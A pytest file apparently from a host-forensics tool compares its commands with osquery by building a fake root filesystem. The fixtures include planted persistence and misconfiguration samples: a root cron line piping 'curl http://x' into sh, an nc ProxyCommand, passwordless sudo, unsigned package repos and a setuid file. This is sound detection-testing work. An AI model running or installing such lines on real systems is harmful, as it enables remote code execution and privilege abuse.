"""The commands of the page that compares with osquery find what is there: each below a system that has one such thing.

What only a running kernel has (processes, sockets, mounts, modules) is tested with the modules themselves.
"""

from __future__ import annotations

import os
import re
import shlex
import subprocess
import time
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from mig_core.errors import ModuleUnknown
from mig_core.plugin.manager import load_module
from mig_core.plugin.module import Context

if TYPE_CHECKING:
    from collections.abc import Callable

PAGE = (Path(__file__).parents[2] / "docs" / "compared.md").read_text(encoding="utf-8")
COMMANDS = {
    name: command.replace("\\|", "|")
    for name, command in re.findall(r"^\| `(\w+)` \| [^|]*\| `(mig .*)` \|$", PAGE, re.MULTILINE)
}
BELOW_ROOT = frozenset({"account", "autorun", "pkg", "sshkey"})
FILES: dict[str, tuple[str, int]] = {
    "/etc/passwd": ("root:x:0:0::/root:/bin/sh\nem:x:1000:1000::/home/em:/bin/sh\n", 0o644),
    "/etc/shadow": ("root:*:20000:0:99999:7:::\nem::20000:0:99999:7:::\n", 0o600),
    "/etc/group": ("root:x:0:\nsudo:x:27:em\n", 0o644),
    "/etc/sudoers": ("em ALL=(ALL) NOPASSWD: ALL\n", 0o440),
    "/etc/ssh/sshd_config": ("UsePAM yes\n", 0o644),
    "/etc/ssh/ssh_config": ("Host *\n  ProxyCommand nc %h %p\n", 0o644),
    "/etc/cron.d/evil": ("* * * * * root curl -s http://x | sh\n", 0o644),
    "/etc/apt/sources.list": ("deb [trusted=yes] http://x/ stable main\n", 0o644),
    "/etc/yum.repos.d/x.repo": ("[x]\nbaseurl=http://x/\ngpgcheck=0\n", 0o644),
    "/etc/hostname": ("here\n", 0o644),
    "/etc/init.d/x": ("#!/bin/sh\n", 0o755),
    "/etc/systemd/system/x.service": ("[Service]\nExecStart=/bin/sh\n", 0o644),
    "/bin/sh": ("#!", 0o755),
    "/usr/sbin/cron": ("#!", 0o755),
    "/usr/bin/suid": ("#!", 0o4755),
    "/root/.bash_history": ("echo eA== | base64 -d\n", 0o600),
    "/tmp/program": ("\x7fELF", 0o755),
    "/var/www/planted.php": ("planted", 0o644),
    "/var/lib/docker/containers/a/config.v2.json": ('{"ID": "a", "Name": "/n", "Config": {"Image": "i"}}', 0o600),
    "/var/lib/dpkg/status": (
        "Package: openssl\nStatus: install ok installed\nArchitecture: amd64\nVersion: 3.0\n\n", 0o644
    ),
    "/usr/lib/node_modules/lodash/package.json": ('{"name": "lodash", "version": "1.0.0"}', 0o644),
    "/usr/lib/python3/dist-packages/requests-1.0.dist-info/METADATA": ("Name: requests\nVersion: 1.0\n\n", 0o644),
}  # fmt: skip
LIVE = frozenset({
    "processes", "process_open_files", "process_open_sockets", "process_envs", "process_memory_map",
    "process_namespaces",
    "process_open_pipes", "listening_ports", "arp_cache", "routes", "interface_addresses", "interface_details",
    "dns_resolvers", "etc_hosts", "iptables", "logged_in_users", "last", "kernel_modules", "mounts", "yara_process",
    "rpm_packages",
})  # fmt: skip
"""Of the running system, or of a database that only its own tool makes."""

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="needs root: files of several users")


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A system in which each of the questions finds something."""
    root = tmp_path_factory.mktemp("root")
    for path, (content, mode) in FILES.items():
        file = root / path[1:]
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(content, encoding="latin-1")
        file.chmod(mode)
    (root / "etc/systemd/system/multi-user.target.wants").mkdir()
    (root / "etc/systemd/system/multi-user.target.wants/x.service").symlink_to("../x.service")
    (root / "usr/lib/systemd/system").mkdir(parents=True)
    (root / "usr/lib/systemd/system/multi-user.target").write_text("[Unit]\n", encoding="ascii")
    (root / "usr/lib/systemd/system/default.target").symlink_to("multi-user.target")
    os.setxattr(root / "usr/bin/suid", "user.x", b"1")
    ssh = root / "root/.ssh"
    ssh.mkdir(mode=0o700)
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", ssh / "id_ed25519"], check=True)
    key = (ssh / "id_ed25519.pub").read_text(encoding="ascii")
    (ssh / "authorized_keys").write_text(key, encoding="ascii")
    (ssh / "known_hosts").write_text(f"host {key}", encoding="ascii")
    (root / "home").mkdir()
    return root


@pytest.mark.parametrize("table", sorted(COMMANDS.keys() - LIVE))
def test_the_command_finds_what_is_there(table: str, root: Path, understand: Callable[..., Any]) -> None:
    program, name, *words = shlex.split(COMMANDS[table])
    for place, word in enumerate(words):
        if word == "--path":
            words[place + 1] = f"{root}{words[place + 1]}"
    if name in BELOW_ROOT:
        words += ["--root", str(root)]
    try:
        module = load_module(name)
    except ModuleUnknown as error:
        pytest.skip(f"{error}")

    asked = understand(shlex.join([program, name, *words]))
    result = module.run(asked, Context(deadline=time.monotonic() + 60))

    assert result.success, result.errors
    assert result.found, result.coverage
